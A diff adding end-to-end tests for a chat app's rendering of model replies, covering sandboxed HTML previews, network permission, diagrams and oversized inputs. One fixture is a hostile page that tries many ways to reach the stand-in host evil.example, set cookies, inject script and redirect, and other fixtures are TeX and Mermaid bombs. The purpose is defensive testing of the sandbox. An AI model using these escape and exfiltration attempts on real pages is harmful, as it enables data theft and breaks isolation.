@@ -1,0 +1,193 @@
+import type { Page } from "@playwright/test";
+import { expect, messageBox, messages, replyEnded, send, test } from "./support/fixtures";
+import { foreignRequests, givenReply, storeReplies } from "./support/given-replies";
+import { hostileMessages } from "./support/hostile-messages";
+
+const fence = "```";
+
+/** Asks for a reply of this text and waits until it has ended. */
+async function reply(page: Page, text: string) {
+  await givenReply(page, text);
+  await send(page, "go");
+  await expect(messages(page)).not.toHaveCount(0);
+  await replyEnded(page);
+  return messages(page).last();
+}
+
+test("of 300 hostile messages none runs, asks another host, covers the page or takes its names", async ({
+  page,
+  context,
+  app,
+}) => {
+  expect(hostileMessages).toHaveLength(300);
+  const foreign = await foreignRequests(context, app.url);
+  const dialogs: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await page.goto(app.url);
+  await expect(messageBox(page)).toBeVisible();
+  await storeReplies(page, hostileMessages);
+  await page.goto(`${app.url}/chat?id=given`);
+  const log = page.getByRole("log", { name: "Conversation" });
+  await expect(async () => {
+    await log.evaluate((element) => element.scrollTo(0, 0));
+    await expect(messages(page)).toHaveCount(300, { timeout: 300 });
+  }).toPass();
+  // Every message is looked at, so that what is drawn late is drawn.
+  for (let index = 0; index < 300; index += 10) await messages(page).nth(index).scrollIntoViewIfNeeded();
+  await messageBox(page).fill("still here");
+  await expect(messageBox(page)).toHaveValue("still here");
+  await expect(page.getByTitle("Preview").first()).toBeAttached();
+  expect(await page.evaluate(() => "planted" in window)).toBe(false);
+  expect(foreign).toEqual([]);
+  expect(dialogs).toEqual([]);
+  const log300 = await log.evaluate((element) => ({
+    ids: [...element.querySelectorAll("[id]")].map(({ id }) => id).filter((id) => !/^(note-|_r_|radix-)/.test(id)),
+    made: element.querySelectorAll("script, style, object, embed, form, base, link, meta, video[src], audio[src]")
+      .length,
+    links: [...element.querySelectorAll("a")].map(({ protocol }) => protocol),
+    names: element.querySelectorAll("[name]").length,
+  }));
+  expect(log300).toMatchObject({ ids: [], made: 0, names: 0 });
+  expect(new Set(log300.links)).toEqual(new Set(["https:", "http:"]));
+});
+
+/** A page that tries all ways out and tells in its title when it is done. */
+const runaway = `<!doctype html><title>trying</title><script>
+const host = "https://evil.example/";
+const tries = [
+  () => fetch(host), () => new WebSocket("wss://evil.example"), () => navigator.sendBeacon(host, "a"),
+  () => new EventSource(host), () => (new Image().src = host), () => window.open(host),
+  () => (top.location = host), () => (parent.location = host), () => import(host + "a.js"),
+  () => new Worker(URL.createObjectURL(new Blob(["fetch('" + host + "');importScripts('" + host + "')"]))),
+  () => document.body.append(Object.assign(document.createElement("iframe"), { src: host })),
+  () => document.body.insertAdjacentHTML("beforeend", "<form action='" + host + "' target=_blank><button></form>") || document.querySelector("button").click(),
+  () => localStorage.setItem("a", "b"), () => indexedDB.open("parley"), () => parent.document.body.remove(),
+  () => { document.cookie = "a=b" }, () => alert(1), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }),
+];
+let refused = 0;
+for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}); } catch { refused++; }
+parent.postMessage({ height: 1e9, title: "planted", html: "<script>planted=1<\\/script>" }, "*");
+document.title = "done";
+setTimeout(() => { location = host; }, 300);
+</script><p>tried</p>`;
+
+test("a page that a model wrote has no network, no storage and no way out, whatever it tries", async ({
+  page,
+  context,
+  app,
+}) => {
+  const foreign = await foreignRequests(context, app.url);
+  await page.goto(app.url);
+  const answer = await reply(page, `${fence}html\n${runaway}\n${fence}`);
+  await answer.getByRole("button", { name: "Run the page" }).click();
+  await expect(answer.getByText("done", { exact: true })).toBeVisible();
+  const inner = page.frameLocator("iframe[src$='preview.html']").frameLocator("iframe");
+  await expect(inner.getByText("tried")).toBeVisible();
+  await page.waitForTimeout(1000);
+  expect(foreign).toEqual([]);
+  expect(context.pages()).toHaveLength(1);
+  expect(page.url()).toContain(app.url);
+  expect(await page.evaluate(() => ["planted" in window, localStorage.getItem("a"), document.cookie])).toEqual([
+    false,
+    null,
+    "",
+  ]);
+});
+
+test("the network is open to a page once the person allows it, and closed again", async ({ page, context, app }) => {
+  const foreign = await foreignRequests(context, app.url);
+  await page.goto(app.url);
+  const answer = await reply(
+    page,
+    `${fence}html\n<title>Bay</title><img src="https://tides.example/a.png" alt="bay">\n${fence}`,
+  );
+  await expect(answer.getByText("Bay", { exact: true })).toBeVisible();
+  expect(foreign).toEqual([]);
+  await answer.getByRole("button", { name: "Network blocked" }).click();
+  await expect.poll(() => foreign).toEqual(["https://tides.example/a.png"]);
+  await answer.getByRole("button", { name: "Network allowed" }).click();
+  await expect(answer.getByRole("button", { name: "Network blocked" })).toBeVisible();
+});
+
+test("a preview is as high as its page, and fills the screen on demand", async ({ page, app }) => {
+  await page.goto(app.url);
+  const answer = await reply(page, `${fence}html\n<body style="margin:0"><div style="height:240px">a</div>\n${fence}`);
+  const frame = answer.locator("iframe");
+  await expect.poll(async () => (await frame.boundingBox())?.height).toBe(240);
+  await answer.getByRole("button", { name: "Fill the screen" }).click();
+  await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(700);
+  await answer.getByRole("button", { name: "Leave full screen" }).click();
+  await expect.poll(async () => (await frame.boundingBox())?.height).toBe(240);
+});
+
+test("the preview file does nothing where it is not in a sandbox", async ({ page, app }) => {
+  const response = await page.goto(`${app.url}/preview.html`);
+  expect(response?.headers()["content-security-policy"]).toBe(
+    "frame-ancestors 'self'; sandbox allow-scripts allow-forms",
+  );
+  expect(await page.evaluate(() => self.origin)).toBe("null");
+});
+
+test("a diagram is drawn, shows its source on demand, and follows the theme", async ({ page, app }) => {
+  await page.goto(app.url);
+  const answer = await reply(page, `${fence}mermaid\nflowchart TD\n  A[Moon] -->|pulls| B[Sea]\n${fence}`);
+  const picture = answer.getByRole("img", { name: "Diagram" });
+  await expect(picture).toBeVisible();
+  const light = await picture.getAttribute("src");
+  expect(decodeURIComponent(light ?? "")).toContain("Moon");
+  await answer.getByRole("button", { name: "Show the source" }).click();
+  await expect(answer.getByRole("code")).toHaveText("flowchart TD\n  A[Moon] -->|pulls| B[Sea]");
+  await answer.getByRole("button", { name: "Show the diagram" }).click();
+  await page.emulateMedia({ colorScheme: "dark" });
+  await expect(picture).not.toHaveAttribute("src", light ?? "");
+});
+
+test("a diagram with a mistake keeps its source, with one line that says so", async ({ page, app }) => {
+  await page.goto(app.url);
+  const answer = await reply(page, `${fence}mermaid\nflowchart TD\n  A -->\n${fence}`);
+  await expect(answer.getByRole("note")).toContainText("The diagram could not be drawn");
+  await expect(answer.getByRole("code")).toContainText("flowchart TD");
+});
+
+const pathological = [
+  ["10,000 nested brackets", `${"[".repeat(10_000)}a${"]".repeat(10_000)}`],
+  ["1 MB on one line", "tide *and* ebb ".repeat(70_000)],
+  ["a table of 5,000 rows", `| a | b |\n| - | - |\n${"| **x** | `y` |\n".repeat(5_000)}`],
+  ["a million letters", "a".repeat(1_000_000)],
+  ["quotes 10,000 deep", `${">".repeat(10_000)} a`],
+  ["a thousand open fences", `${fence}js\nconst a = 1;\n\n~~~\n`.repeat(1_000)],
+  ["a thousand formulas", "$$\\frac{1}{k^2}$$\n\n".repeat(1_000)],
+  ["a TeX bomb", "$$\n\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\n$$"],
+  ["a Mermaid bomb", `${fence}mermaid\nflowchart TD\n${"  a --> b & c & d & e & f & g\n".repeat(400)}${fence}`],
+] as const;
+
+for (const [name, text] of pathological) {
+  test(`a reply of ${name} ends, and the page goes on answering`, async ({ page, app }) => {
+    await page.goto(app.url);
+    await reply(page, text);
+    await messageBox(page).fill("still here");
+    await expect(messageBox(page)).toHaveValue("still here");
+    await page.getByRole("button", { name: "New chat", exact: true }).first().click();
+    await expect(page.getByRole("heading", { name: "How can I help you?" })).toBeVisible();
+  });
+}
+
+test("previews and the folding of code can be turned off", async ({ page, app }) => {
+  const code = `${fence}ts\n${"const tide = 1;\n".repeat(40)}${fence}\n\n${fence}html\n<p>a</p>\n${fence}`;
+  await page.goto(app.url);
+  const first = await reply(page, code);
+  await expect(first.getByTitle("Preview")).toBeVisible();
+  await expect(first.getByRole("button", { name: "Show all 40 lines" })).toHaveCount(0);
+  await reply(page, "done");
+  await expect(messages(page).nth(1).getByRole("button", { name: "Show all 40 lines" })).toBeVisible();
+  await page.goto(`${app.url}/settings`);
+  await page.getByRole("switch", { name: /Fold long code/ }).uncheck();
+  await page.getByRole("switch", { name: /Previews/ }).uncheck();
+  await page.goBack();
+  await expect(messages(page)).toHaveCount(4);
+  await expect(messages(page).nth(1).getByRole("button", { name: "Show all 40 lines" })).toHaveCount(0);
+  await expect(messages(page).nth(1).getByTitle("Preview")).toHaveCount(0);
+});
